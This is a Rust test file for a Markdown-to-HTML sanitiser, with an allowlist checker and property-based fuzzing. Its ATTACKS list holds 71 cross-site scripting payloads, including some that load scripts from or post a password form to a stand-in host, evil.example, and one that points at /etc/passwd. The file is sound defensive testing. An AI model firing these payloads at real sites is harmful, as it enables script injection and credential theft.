//! Nothing unsafe survives: the output is parsed again and held against a list of its own, written independently of
//! the sanitiser's.

use proptest::prelude::*;
use scraper::{Html, Node};

use super::tests::check_runs;
use super::*;

/// `html` and `body` are the parser's own: inside a fragment it drops such tags.
const ELEMENTS: &str = " a abbr b bdo body blockquote br caption cite code dd del details dfn div dl dt em figcaption figure \
    h1 h2 h3 h4 h5 h6 hr html i input ins kbd li mark ol p pre q rp rt ruby s samp small span strike strong sub summary \
    sup table tbody td tfoot th thead time tr tt u ul var wbr ";

/// Parses HTML as a browser does and fails on anything that could run, load, submit, restyle or impersonate.
pub(super) fn check_safe(html: &str, ids: bool) {
    let parsed = Html::parse_fragment(html);
    for node in parsed.tree.nodes() {
        let element = match node.value() {
            Node::Element(element) => element,
            Node::Comment(_) | Node::Doctype(_) | Node::ProcessingInstruction(_) => panic!("{html}"),
            _ => continue,
        };
        assert!(ELEMENTS.contains(&format!(" {} ", element.name())), "<{}> in {html}", element.name());
        for (name, value) in element.attrs() {
            let fine = match name {
                "href" => {
                    let lower = value.to_ascii_lowercase();
                    element.name() == "a"
                        && ["http://", "https://", "mailto:", "#h-", "#fn-", "#fnref-", "#user-content-"]
                            .iter()
                            .any(|start| lower.starts_with(start))
                }
                "id" => {
                    ids && ["h-", "fn-", "fnref-", "user-content-"].iter().any(|start| value.starts_with(start))
                        && !value.contains(char::is_whitespace)
                }
                "class" => value.split(' ').all(|class| class.starts_with("md-") || class.starts_with("hl-")),
                "rel" => value == "nofollow noopener noreferrer",
                "type" => element.name() == "input" && value == "checkbox",
                "disabled" | "checked" => element.name() == "input",
                "tabindex" => value == "0",
                "role" => value == "note" || value == "group",
                "scope" => value == "col",
                "colspan" | "rowspan" | "start" => value.parse::<u64>().is_ok(),
                "title" | "lang" | "dir" | "aria-label" | "open" | "reversed" | "datetime" | "data-lang" => true,
                _ => false,
            };
            assert!(fine, "{name}={value:?} in {html}");
        }
        if element.name() == "input" {
            assert!(element.attr("disabled").is_some() && element.attr("type").is_some(), "{html}");
        }
    }
}

pub(super) fn check(source: &str) {
    let rendered = render(source);
    check_runs(source, &rendered);
    for block in &rendered.blocks {
        check_safe(&block.html, true);
    }
    check_safe(&render_comment(source), false);
}

const ATTACKS: [&str; 71] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img/src='x'/onerror=alert(1)>",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://a.b/c\"onerror=alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](java\\\nscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<\u{1}javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil)",
    "[x](https://a.b/\"onmouseover=\"alert(1))",
    "[x](https://a.b 'title\" onmouseover=\"alert(1)')",
    "<javascript:alert(1)>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href='https://a.b' onclick='alert(1)' style='position:fixed' target=_blank>x</a>",
    "<a href=https://a.b\nonclick=alert(1)>x</a>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=checkbox autofocus onfocus=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<style>@import '//evil.example';</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<body onload=alert(1) background=javascript:alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\" class=\"dialog modal\" data-island=Evil>x</div>",
    "<div id=\"main\" name=x><form id=x><input name=attributes></form></div>",
    "<p id='b-0123456789ab' class='hl-keyword md-alert'>x</p>",
    "<table background=javascript:alert(1)><td background=x onclick=alert(1) colspan=99999999>x</td></table>",
    "<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary></details>",
    "<video><source onerror=alert(1) src=x></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x contenteditable onblur=alert(1)>lose focus!</x>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "```\"><script>alert(1)</script>\nx\n```",
    "`` ` <script>alert(1)</script> ``",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: <img src=x onerror=alert(1)>",
];

#[test]
fn no_unsafe_markup_survives() {
    for attack in ATTACKS {
        check(attack);
        for around in ["> ", "- ", "# ", "| a |\n|---|\n| ", "<div>\n\n", "[^1]\n\n[^1]: ", "**", "---\ntitle: x\ny: "]
        {
            check(&format!("{around}{attack}"));
            check(&format!("{around}{attack}\n\n</div>**|\n---\n"));
        }
    }
    check(&ATTACKS.join("\n\n"));
    check(&ATTACKS.join(" "));
}

#[test]
fn what_an_author_names_or_styles_stays_apart() {
    let html =
        render("<div id=\"main\" class=\"dialog hl-keyword\" data-x=y style=\"color:red\" align=center>x</div>").html();
    assert_eq!(html, "<div class=\"md-center\" id=\"user-content-main\">x</div>\n");
}

/// Pieces that mean something to a Markdown or HTML parser.
fn soup() -> impl Strategy<Value = String> {
    let piece = prop::sample::select(vec![
        "<",
        ">",
        "</",
        "/>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<?",
        "a",
        "b",
        " ",
        "\n",
        "\n\n",
        "\"",
        "'",
        "=",
        "&",
        ";",
        "&#x",
        "&lt;",
        "script",
        "style",
        "svg",
        "math",
        "table",
        "tr",
        "td",
        "div",
        "p",
        "pre",
        "details",
        "summary",
        "img",
        "href",
        "src",
        "on",
        "error",
        "id",
        "class",
        "javascript:",
        "https://a.b",
        "[",
        "]",
        "(",
        ")",
        "!",
        "*",
        "_",
        "`",
        "```",
        "~~",
        "|",
        "|-|\n",
        "> ",
        "- ",
        "1. ",
        "# ",
        "[^1]",
        "[^1]: ",
        "    ",
        "\t",
        "\\",
        "é",
        "\u{1f600}",
        "\u{a0}",
        "\0",
        "\r",
        "---\n",
        "www.",
        "<b>",
        "</b>",
        "<a href=\"#x\">",
        "</a>",
        "<details>\n",
        "</details>\n",
        "<td>",
        "<p>",
        "<table>",
        "</table>",
        "<li>",
        "<br>",
        "- [x] ",
        "> [!NOTE]\n",
        "title: x\n",
        "```rust\n",
        "fn x() {}\n",
    ]);
    prop::collection::vec(piece, 0..60).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_soup_renders_safely_with_true_runs(source in soup()) {
        check(&source);
    }

    #[test]
    fn any_text_renders_safely_with_true_runs(source in "\\PC{0,200}") {
        check(&source);
    }
}
